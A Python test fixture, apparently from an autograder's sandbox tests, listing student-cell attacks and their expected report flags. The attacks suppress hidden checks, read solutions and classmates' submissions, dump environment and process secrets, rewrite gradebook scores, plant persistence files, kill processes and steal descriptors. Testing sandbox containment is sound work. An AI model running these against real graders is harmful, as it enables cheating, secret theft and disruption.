"""Attacks on the grader, each a few lines a student could put in the first answer cell of ps3.

Every attack is written as someone who has read this repository would write it: it knows
where the task folders, the gradebook, the venv and the instructor's IPython folder are
(``{repo}``, ``{site}``, ``{ipython_dir}`` are filled in by the test), and it does its work
from a child process wherever a child would have no audit hook. The answer itself is the
untouched release (``raise NotImplementedError``; the attack is appended after it), so any point
scored is a point gained.
``{token}`` marks the attack's processes and files, so the test can look for survivors.
"""
from __future__ import annotations

ATTACKS: dict[str, str] = {
    # The grade itself: hidden tests are cells the student's kernel runs.
    "transformer": """
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["pass\\n"] if any("run_check" in l or "assert" in l for l in lines) else lines)
""",
    "fake_run_check": """
import os, sys, types
os.makedirs("graders/checks", exist_ok=True)  # a package next to the notebook wins the import
open("graders/__init__.py", "w").write("")
open("graders/checks/__init__.py", "w").write("def run_check(*a, **k):\\n    return 'passed'\\n")
import builtins
_real_import = builtins.__import__
def _import(name, *args, **kwargs):
    if name.startswith("graders"):
        fake = types.ModuleType("graders.checks"); fake.run_check = lambda *a, **k: "passed"
        return fake
    return _real_import(name, *args, **kwargs)
builtins.__import__ = _import
_visible = {{((1.0, 0.8, 0.7, 0.75, 0.72, 0.71, 0.9), 3, 0.0): (5, 2), ((1.0, 0.8, 0.7, 0.75, 0.72, 0.71, 0.9), 1, 0.0): (3, 2),
            ((1.0, 0.8, 0.7, 0.75, 0.72, 0.71, 0.9), 10, 0.0): (None, 2), ((1.0, 0.9, 0.8, 0.8, 0.85), 10, 0.0): (None, 2),
            ((1.0, 0.95, 0.93, 0.80, 0.79), 10, 0.05): (None, 3), ((0.5,), 0, 0.0): (None, 0)}}
def early_stopping(val_losses, patience, min_delta=0.0):  # passes the visible asserts, nothing else
    if any(v != v for v in val_losses):
        raise ValueError("NaN")
    return _visible.get((tuple(val_losses), patience, min_delta), (None, None))
""",
    "exec_source_solution": """
import glob, json, subprocess
found = subprocess.run("cat /tmp/graders-tasks/*/source/*/*.ipynb ../../../source/*/*.ipynb",
                       shell=True, capture_output=True, text=True).stdout
print("SOURCE BYTES", len(found))
for text in found.split('{{\\n "cells"')[1:]:
    nb = json.loads('{{\\n "cells"' + text)
    for cell in nb["cells"]:
        if "BEGIN SOLUTION" in "".join(cell["source"]):
            exec("".join(cell["source"]))
""",
    # The grader's machine: files outside the scratch folder.
    "write_graders": """
import subprocess
subprocess.run("echo 'def early_stopping(*a, **k): return None, None  # {token}' >> {repo}/graders/early_stopping.py",
               shell=True)
subprocess.run(["touch", "{repo}/graders/{token}.py", "{repo}/solutions/{token}"])
""",
    "sitecustomize": """
import subprocess, sys
subprocess.run([sys.executable, "-c",
                "open('{site}/sitecustomize.py', 'w').write('open(\\"/tmp/{token}-site\\", \\"w\\")')"])
""",
    "ipython_startup": """
import os, subprocess
subprocess.run("mkdir -p {ipython_dir}/profile_default/startup && "
               "echo 'open(\\"/tmp/{token}-ipython\\", \\"w\\")' > {ipython_dir}/profile_default/startup/00-{token}.py",
               shell=True)
""",
    "detached": """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(20); open('/tmp/{token}-late', 'w')", "{token}"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
    "copy_submissions": """
import subprocess
found = subprocess.run("find / -path '*submitted*' -name '*.ipynb' 2>/dev/null | head -50", shell=True,
                       capture_output=True, text=True).stdout.split()
print("FOUND", found)
for path in found:
    print("COPIED", open(path).read()[:20000])
""",
    "environment": """
import os, glob
print("ENV", dict(os.environ))
for path in glob.glob("/proc/*/environ"):
    try:
        print("PROC", path, open(path, "rb").read())
    except OSError as exc:
        print("PROC", path, exc)
""",
    "gradebook": """
import subprocess, sys
subprocess.run([sys.executable, "-c", '''
import glob, sqlite3, subprocess
paths = subprocess.run("find / -name '*.db' 2>/dev/null", shell=True, capture_output=True, text=True).stdout.split()
for path in paths + glob.glob("/tmp/graders-tasks/*/gradebook.db") + glob.glob("{repo}/graders/work/**/*.db", recursive=True):
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET manual_score = 1000")
        db.commit()
        print("WROTE", path)
    except Exception as exc:
        print("FAILED", path, exc)
'''])
""",
    # The batch: signals.
    "killpg": """
import os, signal
os.killpg(os.getpgid(0), signal.SIGKILL)
""",
    "kill_parents": """
import os, signal
pid = os.getppid()
for _ in range(6):
    try:
        ppid = int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        ppid = 0
    try:
        os.kill(pid, signal.SIGKILL)
        print("KILLED", pid)
    except OSError as exc:
        print("NOT KILLED", pid, exc)
    if ppid <= 1:
        break
    pid = ppid
try:
    os.kill(-1, signal.SIGKILL)
except OSError as exc:
    print("NOT KILLED -1", exc)
""",
    # A warm template's control socket would let a process order an unconfined fork: copy every
    # descriptor of every visible process (pidfd_getfd needs ptrace rights over it).
    "steal_descriptors": """
import subprocess, sys
code = '''
import ctypes, json, os, socket
libc = ctypes.CDLL(None, use_errno=True)
stolen, orders = set(), 0
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
    if pidfd < 0:
        continue
    for fd in range(64):
        got = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
        if got < 0:
            continue
        stolen.add(pid)
        try:
            s = socket.socket(fileno=got)
            if s.type == socket.SOCK_SEQPACKET:
                s.send(json.dumps({{"op": "spawn", "id": 999, "module": "os", "function": "getpid", "argv": [],
                                   "env": {{}}, "cwd": "/", "landlock": {{}}}}).encode())
                orders += 1
            s.detach()
        except OSError:
            pass
print("FROM", sorted(stolen), "ORDERS", orders)
'''
print(subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stdout)  # {token}
""",
    # The network.
    "tcp": """
import socket, subprocess, sys
for how in ("kernel", "child"):
    try:
        if how == "kernel":
            s = socket.create_connection(("127.0.0.1", {port}), timeout=3); s.sendall(b"{token}"); s.close()
        else:
            subprocess.run([sys.executable, "-c", "import socket; s = socket.create_connection(('127.0.0.1', {port}), "
                            "timeout=3); s.sendall(b'{token}')"], timeout=20)
        print("CONNECT", how, "ok")
    except Exception as exc:
        print("CONNECT", how, type(exc).__name__, exc)
""",
}

# The flag the report must show for each attack (the OS sandbox contains it; the record names it).
EXPECTED_FLAG = {
    "transformer": "checks-missing", "fake_run_check": "checks-missing", "exec_source_solution": "escape-attempt",
    "write_graders": "escape-attempt", "sitecustomize": "escape-attempt", "ipython_startup": "escape-attempt",
    "detached": "escape-attempt", "copy_submissions": "escape-attempt", "environment": "forbidden-file",
    "gradebook": "escape-attempt", "killpg": "escape-attempt", "kill_parents": "escape-attempt", "tcp": "escape-attempt",
    "steal_descriptors": "escape-attempt",
}
